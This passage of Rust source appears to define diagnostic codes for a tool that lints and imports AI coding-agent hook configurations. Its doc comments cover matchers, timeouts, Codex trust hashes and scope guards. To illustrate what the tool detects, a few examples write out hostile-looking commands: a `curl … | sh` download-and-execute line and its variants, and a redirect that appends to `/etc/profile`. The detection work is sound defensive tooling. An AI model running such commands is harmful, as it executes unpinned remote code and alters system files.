    /// A hook that can block (a `PreToolUse`, `UserPromptSubmit` or `Stop` gate in the target)
    /// uses a variable its own agent sets — a plugin's root directory, the session id, one of
    /// jcode's `JCODE_HOOK_*` event fields — and the target agent sets nothing with that
    /// meaning. `hooks import` rewrites the variables that have an equivalent (Claude's
    /// `$CLAUDE_PROJECT_DIR` is Gemini's `${GEMINI_PROJECT_DIR}`, jcode's `${JCODE_HOOK_CWD}`,
    /// `${PWD}` where the agent runs hooks in the project directory: Codex, Jarvis); this one
    /// has none, and the hook is not imported.
    /// ## Why it matters
    /// In the target the variable is empty: `"${CLAUDE_PLUGIN_ROOT}"/hooks/guard.sh` becomes
    /// `/hooks/guard.sh`, which does not exist. The guard fails on every call, and a failing
    /// guard does not block: the calls it was written to stop go through. An observer using such
    /// a variable is written with a `lossy_conversion` warning instead.
    /// ## Example
    /// ```json
    /// {"type": "command", "command": "\"${CLAUDE_PLUGIN_ROOT}\"/hooks/guard.sh"}
    /// ```
    /// in a Claude plugin's `PreToolUse`, imported with `--to codex-json`.
    /// ## How to fix
    /// Copy the script into the project and call it by a path the target resolves (for Codex, a
    /// path relative to the project directory), or read the value from the hook's JSON input on
    /// stdin (`session_id`); then import again.
    AgentVariableUnavailable = "agent_variable_unavailable", Error, "An imported gate uses an agent variable the target does not set";

    /// ## What it means
    /// The hook was rewritten in the target's terms without changing what it does: a timeout
    /// written in another unit, an exact tool list written as an anchored regex (or back), a shell
    /// command wrapped in `sh -c '…'` for jcode (or unwrapped), a login shell replaced by `sh`.
    /// ## Why it matters
    /// It explains why the imported file does not look like the source.
    /// ## Example
    /// A Codex `"matcher": "Bash|Edit"` imported into Jarvis is written `matcher = "^(?:Bash|Edit)$"`.
    /// ## How to fix
    /// Nothing to fix.
    ConversionNote = "conversion_note", Info, "An imported hook was rewritten in the target's terms, meaning kept";

    /// ## What it means
    /// An imported hook that is a file (a Cline hook, run as `<interpreter> <file>`) names its
    /// file by its absolute path in the target, because no portable form fits: a project hook
    /// written into a user-level file (its guard names the project by its absolute path too), a
    /// user hook written into a project file, a user hook whose file is outside the home
    /// directory (`$CLINE_DIR` elsewhere), or a target that runs commands without a shell
    /// (jcode), which would not expand `~`. A project hook going to a project file is written
    /// relative to the target's project directory instead (`"$CLAUDE_PROJECT_DIR"/.cline/hooks/…`),
    /// a user hook going to a user file relative to the home directory (`~/.cline/hooks/…`).
    /// ## Why it matters
    /// The path exists on this machine only: in a file another machine reads (a clone of the
    /// project, a synced home directory) the hook fails to start.
    /// ## Example
    /// `~/.cline/hooks/TaskStart` imported into jcode (`~/.jcode/config.toml`, run without a
    /// shell): `session_start = "bash /home/me/.cline/hooks/TaskStart"`.
    /// ## How to fix
    /// Nothing, when the file stays where it is. To share the hook, move its file into the
    /// project (or the home directory) and import again.
    AbsolutePathKept = "absolute_path_kept", Info, "An imported hook names its file by an absolute path";

    /// ## What it means
    /// The hook's matcher cannot be expressed in the target: a regex that does not compile in the
    /// target's dialect (lookahead in Rust, named groups `(?P<n>…)` in JavaScript), a regex moving
    /// to jcode with no exact shell `case` pattern (jcode has no matcher: the command is wrapped
    /// in a `case` on the tool name, which expresses alternatives of literal names, `.*`, `.+`
    /// and `.`, with or without `^`/`$`, but not classes, `?`, counts or lookaround), or a
    /// matcher on an event where the target ignores matchers.
    /// ## Why it matters
    /// Importing it anyway would make the hook fire for values it never fired for. It is not
    /// imported.
    /// ## Example
    /// ```toml
    /// [[hooks]]
    /// event = "PreToolUse"
    /// matcher = "Bash(?!Output)"   # lookahead: JavaScript only
    /// command = "./guard.sh"
    /// ```
    /// imported into Codex `hooks.json`.
    /// ## How to fix
    /// Rewrite the matcher in the common subset, then import again: for Codex and Claude, a
    /// regex without lookaround or named groups; for jcode, alternatives of names and `.*`
    /// wildcards (`Edit|Write`, `^mcp__.*__delete.*`) instead of classes or optional parts
    /// (`^(Edit|Write)$` rather than `^[EW]\w+$`).
    MatcherNotPortable = "matcher_not_portable", Error, "A matcher cannot be expressed in the target convention";

    /// ## What it means
    /// The target already holds something different where `hooks import` would write: another
    /// value for a setting the target has only once (jcode's `pre_tool_timeout_ms`), the same
    /// command with other settings (a Jarvis entry's `timeout`, a Claude or Codex handler's
    /// `timeout`, `async` or `statusMessage`), a key of another type (`hooks` that is not a
    /// table), a GJC module file with other content, or the target file changed while the
    /// import ran. This is the one code for "the target differs; `--force` overwrites it".
    /// ## Why it matters
    /// Overwriting it would silently change or destroy the user's configuration. Nothing was
    /// written, not even the parts of the plan without a conflict.
    /// ## Example
    /// `~/.jcode/config.toml` has `pre_tool_timeout_ms = 5000` and the imported hooks need 30000.
    /// ## How to fix
    /// Look at the plan (`--dry-run`), then run again with `--force` to overwrite, or edit the
    /// target by hand.
    ImportConflict = "import_conflict", Error, "The target holds a different value; nothing was overwritten";

    /// ## What it means
    /// `hooks import --force` overwrote something in the target that differed from what the
    /// import writes (the case that is an `import_conflict` without `--force`). The message
    /// names the old and the new value.
    /// ## Why it matters
    /// The old value is gone from the file; your other hooks may now run differently (for
    /// example with another shared timeout), and Codex asks you to trust a rewritten hook again.
    /// ## Example
    /// `pre_tool_timeout_ms = 5000` replaced by `30000` in `~/.jcode/config.toml`.
    /// ## How to fix
    /// Nothing, if that is what you wanted. Otherwise restore the file from version control or
    /// a backup and import without `--force`.
    ForcedOverwrite = "forced_overwrite", Warning, "With --force, a differing value in the target was overwritten";

    /// ## What it means
    /// The source holds GJC's managed Codex entry (`gjc codex-native-hook`, installed by
    /// `gjc setup hooks` or `hooks setup codex`). `hooks import` leaves it where it is.
    /// ## Why it matters
    /// Only Codex runs it, on GJC's behalf; a copy in another agent would call GJC with input it
    /// does not expect. It is not lost: it stays in Codex's `hooks.json`.
    /// ## Example
    /// `hooks import --from codex-json --to claude-settings` on a `~/.codex/hooks.json` with
    /// `{"type": "command", "command": "gjc codex-native-hook"}` under `Stop`.
    /// ## How to fix
    /// Nothing. Keep it up to date with `hooks setup codex`.
    ManagedHookNotImported = "managed_hook_not_imported", Info, "GJC's managed Codex entry stays in Codex and is not imported";

    /// ## What it means
    /// A hook in a Codex `hooks.json` has no trusted hash in the Codex config
    /// (`$CODEX_HOME/config.toml`, default `~/.codex/config.toml`): there is no
    /// `[hooks.state."<abs hooks.json path>:<event>:<group>:<handler>"]` table with a
    /// `trusted_hash`.
    /// ## Why it matters
    /// Codex runs only the hooks you have reviewed and trusted (in its `/hooks` view); it skips
    /// an untrusted hook silently: no warning, no error, the session looks healthy and the guard
    /// you wrote never runs.
    /// ## Example
    /// A new `~/.codex/hooks.json` with a `PreToolUse` hook, and a config without `[hooks.state]`.
    /// ## How to fix
    /// Review the hook in Codex (`/hooks`) and trust it, or add the table `hooks list --format
    /// json` shows for it (`trust.key`, `trust.hash`):
    /// ```toml
    /// [hooks.state."/home/me/.codex/hooks.json:pre_tool_use:0:0"]
    /// trusted_hash = "sha256:…"
    /// ```
    CodexHookUntrusted = "codex_hook_untrusted", Warning, "Codex will skip this hook silently: it is not trusted";

    /// ## What it means
    /// A Codex hook has a `trusted_hash` in the Codex config, but the hook changed since it was
    /// trusted: its command, timeout, matcher, `async`, `statusMessage` or
    /// `additionalContextLimit` differ, or it moved to another group or position (the trust key
    /// holds the group and handler index). Reformatting the JSON does not change the hash.
    /// ## Why it matters
    /// Codex treats a changed hook as untrusted and skips it silently until you review it again.
    /// ## Example
    /// A trusted `"timeout": 5` edited to `"timeout": 10`.
    /// ## How to fix
    /// Review the change in Codex (`/hooks`) and trust it again, or write the new hash that
    /// `hooks list --format json` shows.
    CodexHookChanged = "codex_hook_changed", Warning, "Codex will skip this hook silently: it changed since it was trusted";

    /// ## What it means
    /// A project's `.codex/hooks.json` belongs to a project Codex does not trust: the Codex
    /// config has no `[projects."<project root>"]` table with `trust_level = "trusted"` (the
    /// project root is the enclosing git repository, else the directory itself).
    /// ## Why it matters
    /// Codex does not load the project's `.codex` layer at all, so none of these hooks run, even
    /// with trusted hashes and even with `--dangerously-bypass-hook-trust` (observed on Codex
    /// 0.171.0). Nothing says so. Trust is the machine's, not the repository's: where Codex has
    /// no state at all (no `~/.codex/`, as on a CI runner) it is reported as an info, saying so,
    /// so `--deny-warnings` in CI does not fail every repository with Codex hooks.
    /// ## Example
    /// `<repo>/.codex/hooks.json` in a repository you never marked as trusted.
    /// ## How to fix
    /// Trust the project when Codex asks, or add to the Codex config:
    /// ```toml
    /// [projects."/path/to/repo"]
    /// trust_level = "trusted"
    /// ```
    CodexProjectUntrusted = "codex_project_untrusted", Warning, "Codex will skip these project hooks silently: the project is not trusted";

    /// ## What it means
    /// One Codex config layer (the user's `$CODEX_HOME`, or a project's `.codex`) declares hooks
    /// both in its `hooks.json` and inline in its `config.toml` (`[hooks]`). Codex 0.171.0 loads
    /// both and warns at startup "loading hooks from both … prefer a single representation for
    /// this layer" (`codex-rs/hooks/src/engine/discovery.rs` `discover_handlers`).
    /// ## Why it matters
    /// Every hook of both files runs, so a hook moved from one file to the other without being
    /// removed from the first runs twice, and reviewing one file misses the other's hooks.
    /// ## Example
    /// `~/.codex/hooks.json` with a `PreToolUse` hook, and `~/.codex/config.toml` with
    /// ```toml
    /// [[hooks.Stop]]
    /// [[hooks.Stop.hooks]]
    /// type = "command"
    /// command = "./notify.sh"
    /// ```
    /// ## How to fix
    /// Keep the hooks of a layer in one file: move the `[hooks]` events of `config.toml` into
    /// `hooks.json` (or the reverse), keeping `[hooks.state]` (trust) in `config.toml`. Moving a
    /// hook changes its trust key, so Codex asks to trust it again.
    CodexHooksInTwoFiles = "codex_hooks_in_two_files", Warning, "One Codex config layer has hooks in both hooks.json and config.toml";

    /// ## What it means
    /// The agent runs the hook with another timeout than the one written: Codex clamps a
    /// `SessionEnd` timeout to 3 seconds (default 1) and says so only in a startup warning
    /// ("clamping SessionEnd hook timeout to 3s"), and raises a `timeout` of 0 to 1 second.
    /// ## Why it matters
    /// A `SessionEnd` hook is killed after 3 s, whatever its `timeout` says: work it does at
    /// session end (flushing logs, writing a summary) is cut short.
    /// ## Example
    /// ```json
    /// {"hooks": {"SessionEnd": [{"hooks": [{"type": "command", "command": "./summarize.sh", "timeout": 10}]}]}}
    /// ```
    /// ## How to fix
    /// Make the hook finish within 3 s (hand slow work to a detached process), and write
    /// `"timeout": 3` or less; write at least 1 elsewhere.
    TimeoutClamped = "timeout_clamped", Warning, "The agent runs this hook with another timeout than the one written";

    /// ## What it means
    /// The hook's matcher names only tools the target agent has no equivalent of (Claude Code's
    /// `Read` in Codex, whose hooks see reads only as shell commands; `NotebookEdit` anywhere but
    /// Claude Code), or MCP tools where the target's MCP names are unknown. The tool table
    /// (`hook_ir::tools`, read from each agent's source) says which tools are equivalent.
    /// ## Why it matters
    /// Written with the same names, the hook would never fire in the target: it would be lost
    /// without a word. It is not imported.
    /// ## Example
    /// `{"matcher": "Read", "hooks": [...]}` under `PreToolUse` in `.claude/settings.json`,
    /// imported into Codex `hooks.json`.
    /// ## How to fix
    /// Decide what the hook should guard in the target (for Codex, the shell commands that read
    /// files: a `Bash` hook that inspects `tool_input.command`) and write that hook by hand.
    ToolNotInTarget = "tool_not_in_target", Error, "The matcher names only tools the target has no equivalent of; not imported";

    /// ## What it means
    /// Some of the tools the hook's matcher names have no equivalent in the target; they are left
    /// out of the matcher, and the hook is imported for the others.
    /// ## Why it matters
    /// In the target the hook no longer sees calls it saw in the source, because the target has
    /// no such tool (or does that job another way, such as through its shell).
    /// ## Example
    /// `Bash|Read` from Claude Code into Codex becomes `Bash`: Codex has no `Read` tool.
    /// ## How to fix
    /// Nothing, if the target's other tools cover the case; otherwise write the missing check
    /// against the tool the target uses instead.
    ToolDroppedFromMatcher = "tool_dropped_from_matcher", Warning, "Tools without an equivalent in the target were left out of the matcher";

    /// ## What it means
    /// A tool the matcher names maps to target tools that do more or less than it: Codex's
    /// `apply_patch` both edits and creates files, so a Claude `Edit` hook moved to Codex also
    /// fires for new files; jcode's `agentgrep` also finds files, so a `Grep` hook also fires for
    /// file searches. The message names the jobs gained or lost.
    /// ## Why it matters
    /// The hook fires for calls it never saw before (or misses some), and a script that expects
    /// one tool's input may get another's.
    /// ## Example
    /// `Edit` from `.claude/settings.json` imported into `.codex/hooks.json` as `apply_patch`.
    /// ## How to fix
    /// Check that the script handles the target tool's input (`tool_input`) for every job listed,
    /// or narrow it by inspecting the input.
    ToolNotEquivalent = "tool_not_equivalent", Warning, "A tool maps to target tools that do more or less than it";

    /// ## What it means
    /// The hook came from a project (or a personal, uncommitted project file) and the target keeps
    /// hooks only at user level (jcode, Jarvis/Kimi Code), or has no personal project file (Codex):
    /// it is written there with a guard, `case "$PWD/" in '<project>/'*) … esac`, so that it
    /// acts only inside that project, as it did in the source.
    /// ## Why it matters
    /// Without the guard the hook would fire in every project the user opens. With it, the hook
    /// still starts everywhere (and exits at once outside the project); moving the project
    /// directory disables it.
    /// ## Example
    /// A `PreToolUse` hook of `.claude/settings.json` imported into `~/.jarvis-code/config.toml`.
    /// ## How to fix
    /// Nothing, if that is what you want; `--scope user` imports only user-level hooks.
    ScopeGuarded = "scope_guarded", Warning, "A project hook was written at user level, guarded to act only inside its project";

    /// ## What it means
    /// The source convention's hooks include some from a plugin or extension (Claude Code
    /// plugins, Gemini CLI extensions) or from a system-wide settings file (Gemini's
    /// `/etc/gemini-cli/settings.json`, Claude's managed settings). `hooks import` reads them and
    /// leaves them where they are.
    /// ## Why it matters
    /// They belong to the plugin manager or to the machine's administrator, not to the user or
    /// the project: a copy in the user's or the project's file would act in another scope than
    /// the one they came from, and would not follow the plugin's updates or removal.
    /// ## Example
    /// `hooks import --from claude-settings --to codex-json` with a plugin installed under
    /// `~/.claude/plugins/cache/…/hooks/hooks.json`.
    /// ## How to fix
    /// Nothing, when the hooks should stay with their plugin. Install the plugin's equivalent for
    /// the target agent, or copy the hooks you want into your own settings and import those.
    HookOwnedElsewhere = "hook_owned_elsewhere", Info, "A plugin, extension or system hook is read but not imported: it stays with its owner";

    /// ## What it means
    /// The file `hooks import` planned would be larger than what the target's reader accepts
    /// (the same bound `hooks lint` reads files with), so nothing is written.
    /// ## Why it matters
    /// A file the reader refuses loses every hook in it, the user's own included.
    /// ## Example
    /// 19,500 hooks imported into one `.codex/hooks.json`: 4.3 MB, over the 4 MiB bound.
    /// ## How to fix
    /// Import fewer hooks at once, or deduplicate the source (many generated configs repeat the
    /// same command under each tool name).
    ImportTooLarge = "import_too_large", Error, "The planned file would exceed the size the target's reader accepts; nothing written";

    /// ## What it means
    /// Read back with the target's own reader, the planned file would lose hooks or gain errors
    /// the current file does not have (for Jarvis/Kimi Code, one invalid entry drops the whole
    /// `hooks` section). Nothing is written.
    /// ## Why it matters
    /// Writing it would make the agent reject the file or the section, and with it hooks that
    /// worked before the import.
    /// ## Example
    /// A Jarvis entry whose `matcher` is not a valid JavaScript regex.
    /// ## How to fix
    /// Run `hooks lint` on the target, fix what it reports, and import again; report the plan
    /// (`--dry-run --format json`) as a bug if the source was clean.
    TargetWouldReject = "target_would_reject", Error, "The target's reader would reject the planned file; nothing written";

    /// ## What it means
    /// The hook's event is outside the six kinds (`Notification`, `PreCompact`,
    /// `PermissionRequest`, …) and the target agent has no event that fires at the same moment
    /// for the same reason, so `hooks import` has nowhere to put it. The events it carries, and
    /// to which event of each agent, are listed in `docs/cli.md` (table of equivalent events,
    /// `crates/hook-ir/src/contract/native.rs`, each row cited from the agent's source).
    /// ## Why it matters
    /// Writing it under another event would make it fire at other moments: it is left out, and
    /// the import exits 1.
    /// ## Example
    /// A Claude `Notification` hook imported into Codex `hooks.json` (Codex has no notification
    /// event).
    /// ## How to fix
    /// Keep the hook in its own agent, or re-create what it does with an event the target has.
    EventNotInTarget = "event_not_in_target", Error, "The target has no event equivalent to the hook's event outside the six kinds";

    /// ## What it means
    /// `hooks import` keeps a record beside each file it writes (`.<name>.hooks-import`, e.g.
    /// `.codex/.hooks.json.hooks-import`) of the hook entries it wrote there and the source file
    /// each came from, so that importing again replaces them: a changed command is updated, a
    /// hook removed from the source is removed from the target. One of those entries is no
    /// longer in the target exactly as it was written: someone edited it (or removed it) by
    /// hand. An edited hook is yours from then on; import never changes or removes it.
    /// ## Why it matters
    /// The edited copy stays in the target and keeps running. If the source still has the hook,
    /// the import writes it again as the source has it, so both may now run; if the source no
    /// longer has it, the edited copy is not removed with it.
    /// ## Example
    /// `.codex/hooks.json` was generated from `.claude/settings.json`; `./guard.sh` was then
    /// changed to `./guard.sh --strict` in `.codex/hooks.json` by hand, and the guard changed in
    /// `.claude/settings.json` too: importing again adds the new guard and keeps the edited one.
    /// ## How to fix
    /// Make the change in the source and delete the edited copy from the target, or keep the
    /// edited copy on purpose and remove the hook from the source.
    ImportedHookEdited = "imported_hook_edited", Warning, "A hook an earlier import wrote was edited by hand; it is kept and no longer replaced";

    // ───────────────────────── Claude settings ─────────────────────────

    /// ## What it means
    /// A Claude Code hook handler has a `type` other than `command` (`http`, `prompt`, `agent`,
    /// `mcp_tool`, or an unknown one). Claude runs these itself; they are not external commands.
    /// ## Why it matters
    /// The hook is not in the IR: the runner cannot execute it and `hooks import` cannot carry
    /// it to another convention. An unknown type is skipped by Claude as well.
    /// ## Example
    /// ```json
    /// {"type": "prompt", "prompt": "Is this command safe? $ARGUMENTS"}
    /// ```
    /// ## How to fix
    /// Nothing is broken for Claude. To migrate or run it elsewhere, rewrite it as a
    /// `"type": "command"` handler.
    NonCommandHandler = "non_command_handler", Warning, "A hook handler that is not an external command is left out of the IR";

    /// ## What it means
    /// The matcher can never match a real value: `mcp__server` names an MCP server, not a tool
    /// (MCP tools are called `mcp__<server>__<tool>`), an exact name differs from a built-in
    /// tool only in case (`bash` for `Bash`), an exact name is only part of tool names
    /// (`Notebook`: plain names are compared whole, not searched for as a regex), or a regex
    /// cannot match any tool name of the agent, MCP tools (`mcp__server__tool`) included,
    /// because every match needs a character no tool name has: an expression written as a
    /// matcher (`tool == "Bash" && tool_input.command matches "rm"`) is such a regex.
    /// ## Why it matters
    /// Exact names are compared case-sensitively and whole: the hook silently never fires, so a
    /// guard you meant to install is absent.
    /// ## Example
    /// ```json
    /// {"matcher": "mcp__github", "hooks": [{"type": "command", "command": "./audit.sh"}]}
    /// ```
    /// ## How to fix
    /// Write `mcp__github__.*` for every tool of the server, or the tool's exact name (`Bash`).
    MatcherMatchesNothing = "matcher_matches_nothing", Warning, "A matcher that can never match a tool or value";

    /// ## What it means
    /// The matcher looks like a list of tool names but contains a character (`*`, `.`, `+`, `?`,
    /// `(`...) that makes Claude treat the whole string as an unanchored JavaScript regex.
    /// ## Why it matters
    /// As a regex every alternative matches anywhere in the name: `Edit|Write*` also fires for
    /// `MultiEdit`, `NotebookEdit` and `Writ`; a glob-style `Write*` is not a prefix match.
    /// ## Example
    /// ```json
    /// {"matcher": "Edit|Write*"}
    /// ```
    /// ## How to fix
    /// Use plain names (`Edit|Write`) for exact matching, or a deliberate anchored regex
    /// (`^(Edit|Write)$`, `^Write.*`).
    MatcherParsedAsRegex = "matcher_parsed_as_regex", Warning, "A matcher that looks like tool names is parsed as a regex";

    /// ## What it means
    /// The matcher uses permission-rule syntax, `Tool(argument pattern)` (e.g. `Bash(git:*)`).
    /// Hook matchers only see the tool name; Claude (and Codex, Gemini CLI, Kimi Code, which
    /// all take a regex) reads this string as a regex.
    /// ## Why it matters
    /// As a regex `Bash(git:*)` matches `Bashgit` followed by colons: no tool has such a name, so
    /// the hook never fires.
    /// ## Example
    /// ```json
    /// {"matcher": "Bash(git:*)"}
    /// ```
    /// ## How to fix
    /// Match the tool (`Bash`) and inspect `tool_input.command` inside the hook script, or use
    /// the handler's `if` condition.
    PermissionRuleAsMatcher = "permission_rule_as_matcher", Warning, "A matcher written in permission-rule syntax never matches a tool";

    /// ## What it means
    /// A `timeout` of 1000 or more in a convention that reads timeouts in seconds (Claude Code,
    /// Codex): over 16 minutes.
    /// ## Why it matters
    /// It was most likely meant as milliseconds (as in jcode or Gemini); a stuck hook then
    /// blocks the session for a very long time.
    /// ## Example
    /// ```json
    /// {"type": "command", "command": "./lint.sh", "timeout": 30000}
    /// ```
    /// ## How to fix
    /// Write the timeout in seconds (`30`).
    TimeoutLooksLikeMilliseconds = "timeout_looks_like_milliseconds", Warning, "A timeout in seconds that looks like milliseconds";

    /// ## What it means
    /// A command outside a plugin's `hooks/hooks.json` uses `${CLAUDE_PLUGIN_ROOT}`. Claude sets
    /// that variable only for plugin hooks. The same holds for every agent's plugin-root
    /// variables: Cursor's `CURSOR_PLUGIN_ROOT` (and `CLAUDE_PLUGIN_ROOT`), Copilot CLI's
    /// `COPILOT_PLUGIN_ROOT`, `PLUGIN_ROOT` (and `CLAUDE_PLUGIN_ROOT`).
    /// ## Why it matters
    /// Claude passes the text through literally (or the shell expands it to nothing), so the
    /// script path is wrong and every matched tool call runs a failing hook.
    /// ## Example
    /// ```json
    /// {"type": "command", "command": "${CLAUDE_PLUGIN_ROOT}/scripts/format.sh"}
    /// ```
    /// ## How to fix
    /// Use `$CLAUDE_PROJECT_DIR/...` or an absolute path, and copy the script into the project.
    PluginRootOutsidePlugin = "plugin_root_outside_plugin", Error, "`${CLAUDE_PLUGIN_ROOT}` used outside a plugin";

    /// ## What it means
    /// The command runs a script by a relative, `$CLAUDE_PROJECT_DIR` or `${CLAUDE_PLUGIN_ROOT}`
    /// path, and no file exists there. The script may be the command itself, the operand of an
    /// interpreter or runner (`node`, `uv run`, `npx tsx`, `python3 -m`), or a command inside a
    /// shell's `-c` text (`sh -c "node hooks/x.js | tee -a log"`: that text is read as the
    /// commands it holds, not as one path). The program is found behind what runs it: shell
    /// reserved words (`if …; then`, `do`, `!`, `{`), variable assignments (`FOO=1 node x.js`),
    /// `exec`, `command`, `env`, `sudo`, `timeout 5`, `nice -n 10`, `nohup`, `time`, `stdbuf`,
    /// `ionice` (for jcode, which runs no shell, only the programs among them).
    /// ## Why it matters
    /// The hook fails every time it fires (a non-blocking error for most events), so whatever
    /// it was meant to check or record is not done.
    /// ## Example
    /// ```json
    /// {"type": "command", "command": "\"$CLAUDE_PROJECT_DIR\"/.claude/hooks/guard.sh"}
    /// ```
    /// with no `.claude/hooks/guard.sh` in the project.
    /// ## How to fix
    /// Add the script (and commit it), or fix the path.
    MissingScript = "missing_script", Warning, "A hook command names a script that does not exist";

    /// ## What it means
    /// The shared project settings (`.claude/settings.json`, committed to the repository) declare
    /// a `SessionStart` hook.
    /// ## Why it matters
    /// It runs an arbitrary command as soon as someone opens the repository in Claude Code and
    /// trusts the folder — and in print mode (`claude -p`, scripts and CI) with no trust step at
    /// all (Claude Code 2.1.332): a supply-chain attack surface for anyone who clones it.
    /// ## Example
    /// ```json
    /// {"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "./setup.sh"}]}]}}
    /// ```
    /// ## How to fix
    /// Review what it runs. Keep personal start-up hooks in `~/.claude/settings.json` or
    /// `.claude/settings.local.json`; document required setup instead of running it implicitly.
    ProjectSessionStartHook = "project_session_start_hook", Warning, "A committed project settings file runs a command when a session starts";

    /// ## What it means
    /// The command downloads code and executes it at once (`curl … | sh`, `wget -O- … | bash`,
    /// `bash <(curl …)`, `iex (irm …)`, ...).
    /// ## Why it matters
    /// Whoever controls that URL (or the network path to it) runs code with your privileges
    /// every time the hook fires; nothing pins what is executed.
    /// ## Example
    /// ```json
    /// {"type": "command", "command": "curl -fsSL https://example.com/hook.sh | sh"}
    /// ```
    /// ## How to fix
    /// Vendor the script into the repository (reviewed and pinned) and run the local copy.
    DownloadAndExecute = "download_and_execute", Warning, "A hook command downloads and executes code";

    /// ## What it means
    /// The command writes to an absolute path outside the project and outside your home
    /// directory (a `>`/`>>` redirect, `tee`, `cp` or `mv` to such a path).
    /// ## Why it matters
    /// A project hook that changes system files (`/etc/...`, `/usr/local/bin/...`) or other
    /// users' files is at best surprising and at worst an attack.
    /// ## Example
    /// ```json
    /// {"type": "command", "command": "echo \"$PATH\" >> /etc/profile"}
    /// ```
    /// ## How to fix
    /// Write inside the project (or `$CLAUDE_PROJECT_DIR`), or into a temporary directory.
    WritesOutsideProject = "writes_outside_project", Warning, "A hook command writes outside the project";

    /// ## What it means
    /// A hook command uses an environment variable that another agent sets for its hooks
    /// (`$CLAUDE_PROJECT_DIR` in a Codex, Jarvis or jcode hook). This agent does not set it.
    /// ## Why it matters
    /// The variable expands to the empty string: `"$CLAUDE_PROJECT_DIR"/scripts/check.sh` becomes
    /// `/scripts/check.sh`, which does not exist, and the hook fails every time it fires.
    /// ## Example
    /// ```json
    /// {"type": "command", "command": "\"$CLAUDE_PROJECT_DIR\"/scripts/check.sh"}
    /// ```
    /// (in `.codex/hooks.json`)
    /// ## How to fix
    /// Use this agent's own variable if it has one, else a path relative to the project
    /// directory the agent runs hooks in.
    ForeignAgentVariable = "foreign_agent_variable", Warning, "A hook command uses a variable only another agent sets";

    /// ## What it means
    /// A hook command contains a template placeholder such as `${file}` or `{{file_path}}` that
    /// the hook's agent does not substitute: agents pass the event as JSON on stdin (or in
    /// environment variables). The one exception is Gemini CLI, which substitutes
    /// `${extensionPath}`, `${workspacePath}` and `${pathSeparator}` in an extension's
    /// `hooks/hooks.json` (and nowhere else): there they are expanded and not reported.
    /// ## Why it matters
    /// The command receives the placeholder literally, or, as a lower-case shell variable that is
    /// never set, the empty string: `prettier --write ${file}` formats nothing.
    /// ## Example
    /// ```json
    /// {"type": "command", "command": "prettier --write ${file}"}
    /// ```
    /// ## How to fix
    /// Read the value from the hook's input, e.g.
    /// `jq -r .tool_input.file_path | xargs prettier --write`.
    UnexpandedPlaceholder = "unexpanded_placeholder", Warning, "A hook command contains a placeholder its agent does not expand";

    /// ## What it means
    /// A Claude Code hook runs a script by a relative path (`./scripts/check.sh`,
    /// `node .claude/hooks/x.js`). Claude runs hooks in the session's current directory, which
    /// moves when the session `cd`s into a subdirectory.
    /// ## Why it matters
    /// After the first `cd` the path no longer resolves and the hook fails every time it fires.
    /// ## Example
    /// ```json
    /// {"type": "command", "command": "./scripts/check.sh"}
    /// ```
    /// ## How to fix
    /// Anchor it at the project: `"$CLAUDE_PROJECT_DIR"/scripts/check.sh`.
    RelativeScriptPath = "relative_script_path", Warning, "A script path relative to a directory that moves";

    /// ## What it means
    /// A hook command runs a script by an absolute path that exists on one machine only: inside
    /// another user's home directory (`/home/alice/...`, `/Users/alice/...`), or inside your own
    /// home directory in a file shared with everyone who clones the project.
    /// ## Why it matters
    /// On every other machine the script is missing and the hook fails every time it fires.
    /// ## Example
    /// ```json
    /// {"type": "command", "command": "/Users/alice/work/tools/check.sh"}
    /// ```
    /// ## How to fix
    /// Keep the script in the project and run it by a path relative to the project directory
    /// (in Claude Code: `"$CLAUDE_PROJECT_DIR"/tools/check.sh`).
    AbsolutePathElsewhere = "absolute_path_elsewhere", Warning, "A hook command runs a script by a path that exists on one machine only";

    /// ## What it means
    /// The hook's timeout is shorter than it takes to start a process (under 100 ms): jcode's
    /// `pre_tool_timeout_ms = 3`, or a timeout in seconds that rounds to almost nothing.
    /// ## Why it matters
    /// The hook is killed before it can do anything, every time it fires. A gate that fails open
    /// (jcode's `pre_tool`) then lets every tool call through unchecked.
    /// ## Example
    /// ```toml
    /// [hooks]
    /// pre_tool = "./scripts/guard.sh"
    /// pre_tool_timeout_ms = 3   # meant as 3 seconds
    /// ```
    /// ## How to fix
    /// Write the timeout in the convention's unit (jcode: milliseconds, `3000`).
    TimeoutTooShort = "timeout_too_short", Warning, "A timeout too short to start a process";

    /// ## What it means
    /// The settings file sets `"disableAllHooks": true`. Claude Code then runs no hooks at all
    /// (only enterprise-managed settings can override it), including the ones listed in this
    /// and every other settings file.
    /// ## Why it matters
    /// Hooks that are declared and linted here never run: a guard you rely on is off.
    /// ## Example
    /// ```json
    /// {"disableAllHooks": true, "hooks": {"PreToolUse": [...]}}
    /// ```
    /// ## How to fix
    /// Remove `disableAllHooks` (or set it to `false`) when the hooks should run.
    HooksDisabled = "hooks_disabled", Warning, "A settings file turns every hook off";

    /// ## What it means
    /// Another agent also runs this file, and this hook behaves differently there: it names the
    /// agent and what differs — its matcher is ignored (VS Code runs every hook of a Claude-format
    /// file on every tool), a tool it names is not known there, its event does not exist there,
    /// or another default timeout applies. One `.claude/settings.json` is run by Claude Code,
    /// GitHub Copilot CLI, VS Code and Cursor; one `.github/hooks/*.json` by Copilot CLI, VS Code
    /// and Copilot's cloud agent. `hooks list` shows each file's readers.
    /// ## Why it matters
    /// A guard written for one agent may never fire in another that reads the same file, or
    /// fire on every tool call; a hook may be killed sooner than its author expected.
    /// ## Example
    /// ```json
    /// {"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "./guard.sh"}]}]}}
    /// ```
    /// in `.claude/settings.json`: VS Code runs `./guard.sh` before every tool, not only `Bash`.
    /// ## How to fix
    /// Nothing, when the difference is acceptable (this is information). Otherwise make the
    /// script check the tool itself, write an explicit `timeout`, or move the hook into a file
    /// only the intended agent reads (Copilot CLI alone reads `.github/copilot/settings.json`).
    OtherReaderDiffers = "other_reader_differs", Info, "Another agent that runs this file runs this hook differently";

    // ───────────────────────── Gemini CLI settings ─────────────────────────

    /// ## What it means
    /// A Gemini CLI hook `timeout` is in **milliseconds**, and this one is so small that it
    /// was almost certainly written in seconds (Claude Code, Codex and Jarvis use seconds).
    /// Gemini kills the hook after that many milliseconds (`hookRunner.ts`,
    /// `setTimeout(..., timeout)`), so it times out before it can answer.
    /// ## Why it matters
    /// A timed-out hook never blocks: a `BeforeTool` guard with `"timeout": 30` is killed after
    /// 30 ms and every tool call goes through. `gemini hooks migrate --from-claude` copies
    /// Claude's seconds into this field unchanged.
    /// ## Example
    /// ```json
